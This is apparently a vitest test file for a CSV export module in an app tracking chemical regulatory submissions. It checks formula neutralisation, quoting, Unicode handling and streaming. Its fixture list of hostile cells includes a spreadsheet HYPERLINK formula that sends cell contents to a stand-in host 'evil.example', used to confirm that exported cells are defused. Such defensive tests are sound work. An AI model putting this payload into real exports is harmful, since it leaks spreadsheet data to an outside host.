import { describe, expect, it } from 'vitest';
import type { TextSink } from '../../../src-main/ipc/services';
import { encodeCell, encodeRecord, neutraliseFormula, quoteField } from '../../../src-main/workflows/csv/cell';
import { SUBMISSION_COLUMNS, VALIDATION_COLUMNS, headerValues, rowValues, type ExportValidation } from '../../../src-main/workflows/csv/columns';
import { streamCsv } from '../../../src-main/workflows/csv/stream';
import { makeSummary } from '../../integration/workflows/support/summaries';
import { parseCsvWithPython } from '../../integration/workflows/support/python-csv';

function memorySink(): TextSink & { text(): string; writes: number } {
  const parts: string[] = [];
  const sink = {
    writes: 0,
    async write(chunk: string) {
      parts.push(chunk);
      sink.writes += 1;
    },
    async close() {},
    text: () => parts.join(''),
  };
  return sink;
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+41 22 000',
  '-2+3',
  '@SUM(A1:A9)',
  '\tTabbed',
  '\rCarriage',
  'semi;colon',
  'com,ma',
  'quote " inside',
  'line\nbreak',
  'crlf\r\nbreak',
  'Gemisch ä ö ü — ✓',
  '  spaces kept  ',
  '',
];

describe('cells', () => {
  it('neutralises formula starters with a leading apostrophe', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutraliseFormula(`${start}x`)).toBe(`'${start}x`);
    expect(neutraliseFormula('AAD678032-54')).toBe('AAD678032-54');
    expect(neutraliseFormula('a=b')).toBe('a=b');
  });

  it('quotes per RFC 4180 only when needed', () => {
    expect(quoteField('plain', ',')).toBe('plain');
    expect(quoteField('a,b', ',')).toBe('"a,b"');
    expect(quoteField('a,b', ';')).toBe('a,b');
    expect(quoteField('a;b', ';')).toBe('"a;b"');
    expect(quoteField('say "hi"', ',')).toBe('"say ""hi"""');
    expect(quoteField('a\nb', ';')).toBe('"a\nb"');
    expect(encodeCell(['FI', 'DE'], ',')).toBe('"FI, DE"');
    expect(encodeCell(null, ',')).toBe('');
    expect(encodeCell(3, ',')).toBe('3');
    expect(encodeRecord(['a', 'b'], ';')).toBe('a;b\r\n');
  });

  it('replaces lone surrogates so the output is valid UTF-8', () => {
    expect(encodeCell('x\uD800y', ',')).toBe('x\uFFFDy');
  });
});

describe('rows', () => {
  it('one row per submission with every column the issue names', () => {
    const headers = headerValues(SUBMISSION_COLUMNS);
    for (const h of ['Legal entity', 'LE UUID', 'Mode', 'Test run', 'Submission number', 'Status', 'Submitted at', 'File name',
      'Dossier UUID', 'Submission type', 'PCN/SCIP number', 'UFIs', 'FAIL count', 'WARN count', 'Validation codes',
      'Dispatched to', 'Downloaded by', 'Report URL']) {
      expect(headers).toContain(h);
    }
    const row = rowValues(SUBMISSION_COLUMNS, { submission: makeSummary(), profileName: 'Demo Chemicals Oy' });
    const get = (h: string) => row[headers.indexOf(h)];
    expect(get('Mode')).toBe('PRODUCTION');
    expect(get('Test run')).toBeNull();
    expect(get('PCN/SCIP number')).toBe('e3a9c9b4-7a44-4d2b-9a1f-3f2c1b0a9d8e');
    expect(get('Dispatched to')).toEqual(['DE', 'FI']);
    expect(get('FAIL count')).toBe(1);
  });

  it('test run only in integration mode', () => {
    const headers = headerValues(SUBMISSION_COLUMNS);
    const row = rowValues(SUBMISSION_COLUMNS, {
      submission: makeSummary({ space: { le: 'ECHA-5a4c0d1e-7b2f-4c3a-9e8d-1f2a3b4c5d6e', mode: { kind: 'integration', testRun: 'acme-007' } } }),
      profileName: null,
    });
    expect(row[headers.indexOf('Test run')]).toBe('acme-007');
    expect(row[headers.indexOf('Mode')]).toBe('Integration test');
  });

  it('one row per validation, with empty validation cells for a submission without any', () => {
    const headers = headerValues(VALIDATION_COLUMNS);
    const withV: ExportValidation = { submission: makeSummary(), profileName: 'X', validation: { seq: 2, level: 'FAIL', code: 'BR570', context: 'LE differs' } };
    const none: ExportValidation = { submission: makeSummary(), profileName: 'X', validation: null };
    expect(rowValues(VALIDATION_COLUMNS, withV)[headers.indexOf('Code')]).toBe('BR570');
    expect(rowValues(VALIDATION_COLUMNS, none)[headers.indexOf('Code')]).toBeNull();
  });
});

describe('streamCsv', () => {
  for (const delimiter of [',', ';'] as const) {
    it(`hostile cells parse back with an independent parser (delimiter ${JSON.stringify(delimiter)})`, async () => {
      const rows = HOSTILE.map((text, i) => ({
        submission: makeSummary({ id: i, dossierName: text, fileName: `${text}.i6z`, validationCodes: [text, 'X'] }),
        profileName: text,
      }));
      const sink = memorySink();
      const { rowCount } = await streamCsv(rows, SUBMISSION_COLUMNS, sink, { delimiter, chunkChars: 200 });
      expect(rowCount).toBe(HOSTILE.length);
      expect(sink.writes).toBeGreaterThan(2); // it did stream in chunks

      const bytes = Buffer.from(sink.text(), 'utf8');
      expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
      const parsed = parseCsvWithPython(bytes, delimiter);
      expect(parsed.bom).toBe(true);
      expect(parsed.rows).toHaveLength(HOSTILE.length + 1);
      const headers = parsed.rows[0]!;
      expect(headers).toEqual(headerValues(SUBMISSION_COLUMNS));
      HOSTILE.forEach((text, i) => {
        const rec = parsed.rows[i + 1]!;
        expect(rec).toHaveLength(headers.length);
        const expected = /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
        expect(rec[headers.indexOf('Legal entity')]).toBe(expected);
        expect(rec[headers.indexOf('Dossier name')]).toBe(expected);
        expect(rec[headers.indexOf('Validation codes')]).toBe(/^[=+\-@\t\r]/.test(text) ? `'${text}, X` : `${text}, X`);
        expect(rec[headers.indexOf('Submission number')]).toBe('AAD678032-54');
        expect(rec[headers.indexOf('FAIL count')]).toBe('1');
      });
      // No cell the spreadsheet would evaluate.
      for (const rec of parsed.rows) for (const cell of rec) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });
  }

  it('streams a generated sequence without materialising it', async () => {
    let produced = 0;
    function* gen() {
      for (let i = 0; i < 20_000; i++) {
        produced += 1;
        yield { submission: makeSummary({ id: i, number: `AAA${String(i).padStart(6, '0')}-01` }), profileName: 'P' };
      }
    }
    const progress: number[] = [];
    const sink = memorySink();
    const result = await streamCsv(gen(), SUBMISSION_COLUMNS, sink, { delimiter: ',', onProgress: (n) => progress.push(n), progressEvery: 5000 });
    expect(result.rowCount).toBe(20_000);
    expect(produced).toBe(20_000);
    expect(progress).toEqual([5000, 10000, 15000, 20000, 20000]);
    expect(sink.text().split('\r\n')).toHaveLength(20_002); // header + rows + trailing empty
  });
});
